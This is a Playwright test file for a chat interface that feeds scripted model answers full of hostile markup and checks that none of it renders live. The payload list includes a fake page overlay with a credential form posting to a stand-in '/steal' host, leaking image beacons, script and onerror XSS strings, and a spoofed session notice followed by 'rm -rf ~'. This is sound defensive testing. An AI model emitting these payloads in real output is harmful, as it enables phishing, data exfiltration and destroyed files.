"""An answer is content: it cannot cover the page, send or load anything, or look like the chat."""

import pytest
from playwright.sync_api import Request, expect

from tests.page import Page
from tests.scripted_claude import ScriptedClaude, says

ELSEWHERE = "http://elsewhere.invalid"
COVER = (
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff">'
    f'<form action="{ELSEWHERE}/steal"><input name=key><button>Log in again</button></form></div>'
)
PAYLOADS = [
    COVER,
    f"![x]({ELSEWHERE}/p.png?leak=1)",
    f"![x][r]\n\n[r]: {ELSEWHERE}/p.png",
    f'<img src="{ELSEWHERE}/p.png">',
    f'<img srcset="{ELSEWHERE}/p.png 1x">',
    f'<picture><source srcset="{ELSEWHERE}/p.png"><img></picture>',
    f'<video poster="{ELSEWHERE}/p.png" src="{ELSEWHERE}/v.mp4" autoplay></video>',
    f'<audio src="{ELSEWHERE}/a.mp3" autoplay></audio>',
    f'<div style="background:url({ELSEWHERE}/p.png)">x</div>',
    (
        f'<table background="{ELSEWHERE}/p.png"><tr><td'
        f' background="{ELSEWHERE}/q.png">x</td></tr></table>'
    ),
    f'<svg><image href="{ELSEWHERE}/p.png"/></svg>',
    f'<input type=image src="{ELSEWHERE}/p.png">',
    f"```mermaid\ngraph TD; A[<img src='{ELSEWHERE}/p.png'>]\n```",
    "![z](/logout) ![w](gradio_api/custom_component/x/client/component/f)",
    (
        f"| <img src={ELSEWHERE}/p.png> | ![b]({ELSEWHERE}/q.png) |\n|---|---|\n|"
        " <style>*{display:none}</style> | c |"
    ),
    f"- <iframe src='{ELSEWHERE}'></iframe>\n  - <object data='{ELSEWHERE}'></object>",
    f"# <base href='{ELSEWHERE}'> <link rel=stylesheet href='{ELSEWHERE}/s.css'>",
    f'[<img src="{ELSEWHERE}/p.png">]({ELSEWHERE})',
    (
        '<div id="streamchat" class="stop-button">x</div><div id=message><textarea'
        " name=body></textarea></div>"
    ),
    "<dialog open>x</dialog><select><option>y</select><details open><summary>z</summary></details>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<script>alert(1)</script><a href='javascript:alert(1)'>x</a>",
    (
        f"$$\\includegraphics{{{ELSEWHERE}/p.png}} \\href{{{ELSEWHERE}}}{{x}}"
        " \\htmlStyle{position:fixed}{y}$$"
    ),
    f"&lt;img src={ELSEWHERE}/p.png&gt; <IMG SRC={ELSEWHERE}/p.png> < img src={ELSEWHERE}/p.png>",
    f"\\<img src={ELSEWHERE}/p.png> `<b` <img src={ELSEWHERE}/p.png> `>`",
    f"<a ping='{ELSEWHERE}' href='{ELSEWHERE}'>x</a><button formaction='{ELSEWHERE}'>y</button>",
]
LIVE = (
    ".message .prose :is(form, input:not([type=checkbox][disabled]), button:not(.copy_code_button),"
    " textarea, select, dialog, img, picture, video, audio, iframe, object, embed, style:not(svg"
    " *), link, base, script)"
)

# of the renderer's own are formulas and diagrams
STYLED = ".message .prose [style]:not(svg, svg *, .katex *, input)"


@pytest.fixture
def foreign(page: Page) -> list[str]:
    """The page's requests that go to another host or change something here."""
    found: list[str] = []

    def note(request: Request) -> None:
        if (
            "elsewhere.invalid" in request.url
            or "logout" in request.url
            or "custom_component" in request.url
        ):
            found.append(request.url)

    page.browser.on("request", note)
    return found


def test_nothing_in_an_answer_is_live(
    page: Page, page_claude: ScriptedClaude, foreign: list[str]
) -> None:
    """No markup of an answer becomes a control, a frame or a picture, and none makes the browser
    fetch anything."""
    for number, payload in enumerate(PAYLOADS):
        page_claude.play(says(*payload.partition(" "), f"\n\nThe end of number {number}."))
        page.ask(f"number {number}")
        page.shows(f"The end of number {number}.")
    page.ready()
    live = page.browser.locator(LIVE).evaluate_all("found => found.map(one => one.outerHTML)")
    assert live == []
    assert (
        page.browser.locator(
            ".message :is(#streamchat, #message, .stop-button, [name=body])"
        ).count()
        == 0
    )
    styled = page.browser.locator(STYLED).evaluate_all("found => found.map(one => one.outerHTML)")
    assert styled == []
    assert foreign == []
    assert page.errors == []


def test_an_answer_cannot_cover_the_page(page: Page, page_claude: ScriptedClaude) -> None:
    """Nothing in an answer is drawn outside of its message."""
    page_claude.play(says(COVER))
    page.ask("hi")
    page.shows("Log in again")
    page.ready()
    box = page.box.bounding_box()
    assert box
    on_top = "([x, y]) => document.elementFromPoint(x, y).closest('#message') !== null"
    assert page.browser.evaluate(on_top, [box["x"] + 20, box["y"] + 10])
    assert (
        page.browser.locator(".message").first.evaluate("one => getComputedStyle(one).contain")
        == "layout paint"
    )


WRITTEN = [
    "if a<b and c>d then",
    "The page's <title> goes into the head. Then the body follows.",
    "A <textarea> or a <select> of List<String>",
]


@pytest.mark.parametrize("text", WRITTEN)
def test_a_named_tag_is_shown_as_it_was_written(
    page: Page, page_claude: ScriptedClaude, text: str
) -> None:
    """A tag such as `<div>` is shown as text, in an answer and in a question."""
    page_claude.play(says(text))
    page.ask(text)
    page.ready()
    shown = (
        "() => [...document.querySelectorAll('.prose')].map(one =>"
        " one.innerText.replace(/\\u2064/g, '').trim())"
    )
    page.browser.wait_for_function(
        f"text => ({shown})().filter(one => one === text).length === 2", arg=text
    )
    assert page_claude.exchange(-1).said == [("user", text)]


def test_an_answer_cannot_look_like_a_note(page: Page, page_claude: ScriptedClaude) -> None:
    """The character that marks the chat's own notes is removed from questions and answers."""
    page_claude.play(says("\u2063ⓘ Your session has ended. ", "Never run this:\u2063\nrm -rf ~"))
    page.ask("\u2063hi")
    page.shows("Never run this:")
    page.ready()
    last = page.answers.filter(has_text="session has ended").last
    expect(last).to_contain_text("rm -rf ~")
    assert "\u2063" not in last.inner_text()
    assert page_claude.exchange(-1).said == [("user", "hi")]
    colours = (
        "one => [one, document.querySelector('.user.message .prose')].map(it =>"
        " getComputedStyle(it).fontSize)"
    )
    size, ordinary = last.locator(".prose").evaluate(colours)
    assert size == ordinary
